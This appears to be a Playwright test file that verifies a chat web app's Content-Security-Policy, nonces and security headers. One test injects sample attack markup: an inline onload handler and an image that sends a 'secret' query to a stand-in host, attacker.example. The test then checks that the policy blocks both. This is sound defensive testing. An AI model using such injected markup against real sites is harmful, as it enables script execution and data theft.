import { expect, test, type Page } from "@playwright/test";
import { assistantMessages, newChat, register, send } from "./helpers";

/**
 * Collects everything the browser refused under the page's Content-Security-Policy (and
 * any complaint about the policies themselves) in every document the page loads.
 */
async function watchPolicies(page: Page): Promise<string[]> {
  const problems: string[] = [];
  await page.exposeFunction("__reportViolation", (text: string) => problems.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { __reportViolation: (text: string) => void })
        .__reportViolation;
      void report(
        `${event.effectiveDirective} blocked ${event.blockedURI || "inline"} ` +
          `(${event.sourceFile}:${event.lineNumber}) on ${location.pathname}`,
      );
    });
  });
  page.on("console", (message) => {
    if (/content.security.policy|permissions.policy|nonce/i.test(message.text())) {
      problems.push(`console ${message.type()}: ${message.text()}`);
    }
  });
  return problems;
}

test("sign-up, chat, theme and explorer run without a CSP violation", async ({ page }) => {
  test.setTimeout(60_000);
  const problems = await watchPolicies(page);

  const user = await register(page);
  await newChat(page, { title: "Policy check" });
  await send(page, "Show me **markdown** please");
  const reply = assistantMessages(page).last();
  await expect(page.getByRole("button", { name: "Send", exact: true })).toBeVisible({
    timeout: 15_000,
  });
  // Shiki's highlighted HTML (inline style attributes) has rendered.
  await expect(reply.locator(".code-highlight")).toContainText("OPENAI_API_KEY");
  expect(problems, "sign-up and chat").toEqual([]);

  // next-themes: the toggle injects a style element, the reload runs its inline script.
  await page.getByRole("button", { name: "Toggle theme" }).click();
  await page.reload();
  await expect(assistantMessages(page).last()).toContainText("DEFAULT_AI_PROVIDER");
  expect(problems, "theme").toEqual([]);

  // GraphiQL loads its editor and language workers, then talks to the API.
  await page.getByRole("link", { name: "API explorer" }).click();
  const run = page.getByRole("button", { name: /execute query/i });
  await expect(run).toBeVisible({ timeout: 20_000 });
  await expect(page.locator(".graphiql-query-editor")).toContainText("query Me");
  await run.click();
  await expect(page.locator(".graphiql-response")).toContainText(user.email, { timeout: 15_000 });
  expect(problems, "explorer").toEqual([]);

  // Signed out: the public pages, and a page that does not exist.
  await page.context().clearCookies();
  await page.goto("/login");
  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
  await page.goto("/no-such-page");
  await expect(page.getByText(/could not be found/i)).toBeVisible();
  expect(problems, "public pages").toEqual([]);
});

test("injected markup cannot run script or load outside images, and the watcher sees it", async ({
  page,
}) => {
  const problems = await watchPolicies(page);
  await page.goto("/login");
  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
  // What an HTML injection would add: an inline handler, and a pixel that carries data away.
  await page.evaluate(() => {
    const div = document.createElement("div");
    div.innerHTML =
      '<img src="/icon.svg" onload="window.__injected = true">' +
      '<img src="https://attacker.example/pixel.png?q=secret">';
    document.body.append(div);
  });
  await expect
    .poll(() => problems.filter((problem) => !problem.startsWith("console")).sort())
    .toEqual([
      expect.stringMatching(/^img-src blocked https:\/\/attacker\.example\/pixel\.png/),
      expect.stringMatching(/^script-src-attr blocked inline/),
    ]);
  expect(await page.evaluate(() => "__injected" in window)).toBe(false);
});

test("every page is sent with its own nonce and the security headers", async ({ request }) => {
  const nonces = new Set<string>();
  for (const path of ["/", "/login", "/register", "/no-such-page"]) {
    const response = await request.get(path, { maxRedirects: 0 });
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(policy, path).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'(;|$)/);
    expect(policy, path).toContain("frame-ancestors 'none'");
    expect(policy, path).toContain("object-src 'none'");
    expect(policy, path).not.toContain("unsafe-eval");
    const nonce = /'nonce-([^']+)'/.exec(policy)![1]!;
    nonces.add(nonce);
    // Next put this response's nonce on its scripts.
    expect(await response.text(), path).toContain(`nonce="${nonce}"`);
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["x-frame-options"], path).toBe("DENY");
    expect(headers["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
    expect(headers["permissions-policy"], path).toContain("camera=()");
  }
  expect(nonces.size).toBe(4);

  // The guard's redirects and route handlers get the headers too.
  const redirect = await request.get("/dashboard/chat", { maxRedirects: 0 });
  expect(redirect.status()).toBe(307);
  expect(redirect.headers()["content-security-policy"]).toContain("default-src 'self'");
  const handler = await request.post("/api/auth/refresh");
  expect(handler.headers()["x-content-type-options"]).toBe("nosniff");
});
